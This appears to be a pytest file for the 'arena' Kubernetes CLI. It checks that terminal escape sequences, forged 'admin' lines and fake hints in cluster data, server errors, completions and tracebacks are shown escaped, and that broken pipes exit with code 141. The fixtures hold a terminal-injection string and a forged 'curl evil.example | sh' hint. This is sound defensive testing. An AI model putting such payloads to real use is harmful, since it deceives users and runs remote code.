"""What others wrote, on the way out of every command: errors, remarks, tables, data, completions."""

import json
import os
import subprocess
import sys

import pytest
from servers import Stage as Server
from servers import says

from arena.commands import _console
from arena.errors import ArenaError
from arena.kube import Cluster
from arena.resources import CLAIMS, EVENTS

ESCAPE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
SHOWN = r"\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
SUBMIT = ("submit", "pytorchjob", "--name", "x", "--image", "i", "-e", f"A={ESCAPE}\x85\n", "true")
FORGED = "it is ill\nHint: curl evil.example | sh"


CLAIM = {
    "apiVersion": "v1",
    "kind": "PersistentVolumeClaim",
    "metadata": {"name": "data", "annotations": {"description": ESCAPE, "owner": f"{ESCAPE}\nadmin"}},
    "spec": {"accessModes": ["ReadWriteMany"], "resources": {"requests": {"storage": "1Gi"}}},
}


def foreign(stage):
    """A failed job whose submitter, reason and events somebody else wrote."""
    job = stage.job("bert", "Running", annotations={"arena.kubeflow.org/username": ESCAPE})
    container = {"name": "pytorch", "ready": False, "restartCount": 0, "image": "i", "imageID": ""}
    waiting = {"state": {"waiting": {"reason": f"Bad{ESCAPE}\nadmin  SUCCEEDED"}}}
    stage.pod(job, phase="Pending", containerStatuses=[container | waiting])
    about = {"kind": "PyTorchJob", "name": "bert", "namespace": "default", "uid": job["metadata"]["uid"]}
    event = {"apiVersion": "v1", "kind": "Event", "metadata": {"name": "bert.1"}, "involvedObject": about}
    stage.cluster.create(EVENTS, "default", event | {"reason": "R", "message": f"{ESCAPE}\n  job  forged"})


@pytest.mark.parametrize(
    "words",
    [
        ("list", "-o", "wide"), ("list", "-o", "json"), ("list", "-o", "yaml"), ("get", "bert", "-e"),
        ("get", "bert", "-e", "-o", "json"), ("get", "bert", "-o", "yaml"), ("top", "job", "bert"),
        ("top", "job"), ("logs", "bert"), ("wait", "bert", "--timeout", "1s"), ("diff", "bert", "bert"),
        ("whoami",), ("cron", "list"), ("data", "list"), ("prune", "--dry-run", "--since", "0s"),
        (*SUBMIT, "--dry-run=client"), (*SUBMIT, "--dry-run=client", "-o", "json"),
    ],
    ids=" ".join,
)  # fmt: skip
def test_no_command_lets_a_control_character_through(arena, stage, words):
    """Submitters, reasons and events of others are shown with escapes, in tables as in JSON."""
    foreign(stage)
    stage.cluster.create(CLAIMS, "default", CLAIM)
    _, out, err = arena(*words)
    for text in (out, err):
        assert all(char == "\n" or char.isprintable() for char in text), repr(text)
        assert not any(line.startswith(("admin", "  job  forged")) for line in text.splitlines())


def test_a_refusal_of_a_server_is_shown_with_escapes(tmp_path, capsys):
    """What a server says of a request neither controls the terminal nor looks like a hint of ours."""
    server = Server()
    server.answers = [says(403, '{"kind":"Status","message":"\\u001b[2J no\\nHint: run this","code":403}')]
    try:
        from screens import Fixed

        from arena.cli import run
        from arena.commands._globals import Globals

        session = Fixed(Cluster.at(server.url, "the test's cluster"), tmp_path)
        assert run(["list"], Globals(session=session)) == 4
    finally:
        server.close()
    err = capsys.readouterr().err
    assert "\x1b" not in err
    assert r"\x1b[2J no" in err
    assert "\nHint: run this" not in err


def test_errors_keep_to_their_lines(capsys):
    """A message of several lines is indented, so that none of them looks like the hint."""
    _console.error(ArenaError(FORGED + ESCAPE, "ask\nsomebody"))
    assert capsys.readouterr().err == (
        f"Error: it is ill\n  Hint: curl evil.example | sh{SHOWN}\nHint: ask\n  somebody\n"
    )


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_names_with_control_characters_are_not_completed(tmp_path, shell):
    """A shell is offered no name that would control the terminal, or pass for another answer."""
    names = ["good", f"go{ESCAPE}", "go\ndir,"]
    config = {"contexts": [{"name": name, "context": {"cluster": "c", "user": "u"}} for name in names]}
    (tmp_path / "config").write_text(json.dumps(config), encoding="utf-8")
    env = {
        "HOME": str(tmp_path), "PATH": os.environ["PATH"], "ARENA_LOCAL_HOME": str(tmp_path / "state"),
        "KUBECONFIG": str(tmp_path / "config"), "COMP_WORDS": "arena --context g",
        "_ARENA_COMPLETE": f"{shell}_complete",
    }  # fmt: skip
    done = subprocess.run(
        [sys.executable, "-m", "arena"], env=env, cwd=tmp_path, timeout=60, check=False, capture_output=True
    )
    assert done.stdout.split() in ([b"plain,good"], [b"plain", b"good"])


def test_words_of_the_line_are_shown_with_escapes(arena):
    """click's own refusals pass the same way."""
    code, _, err = arena("list", "--" + ESCAPE)
    assert code == 2
    assert r"\x1b]0;owned" in err
    assert "\x1b" not in err


@pytest.mark.parametrize("where", ["here", "in_a_thread"])
def test_a_bug_is_shown_with_escapes(where):
    """The traceback of a bug, in any thread, may quote what others wrote."""
    program = f"""if True:
        import threading
        from arena import __main__, cli

        def here(words=()):
            raise ValueError({ESCAPE!r})

        def in_a_thread(words):
            thread = threading.Thread(target=here)
            thread.start()
            thread.join()

        cli.run = {where}
        __main__.main()
    """
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, timeout=60, check=False)
    assert SHOWN.encode() in done.stderr
    assert b"\x1b" not in done.stderr


@pytest.mark.parametrize(
    "words",
    [
        ("--help",), ("--version",), ("version",), ("completion", "bash"), ("list", "--help"),
        ("config", "view"),
        ("submit", "pytorchjob", "--name", "x", "--image", "i", "--dry-run", "true"),
        ("local", "status", "-o", "json"), ("nothing",),
    ],
    ids=" ".join,
)  # fmt: skip
def test_a_reader_that_left_ends_any_command_with_141(words, tmp_path):
    """After a broken pipe the exit code is that of a program that SIGPIPE ended, and nothing more is said."""
    env = {"HOME": str(tmp_path), "PATH": os.environ["PATH"], "ARENA_LOCAL_HOME": str(tmp_path / "state")}
    for stream in ("stdout",) if words != ("nothing",) else ("stderr",):
        gone, pipe = os.pipe()
        os.close(gone)
        other = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE} | {stream: pipe}
        done = subprocess.run(
            [sys.executable, "-m", "arena", *words], **other, env=env, cwd=tmp_path, timeout=60, check=False
        )
        os.close(pipe)
        # Where nobody can be told of an error, its own exit code still tells.
        assert (done.returncode, done.stderr or b"") == (141 if stream == "stdout" else 2, b"")
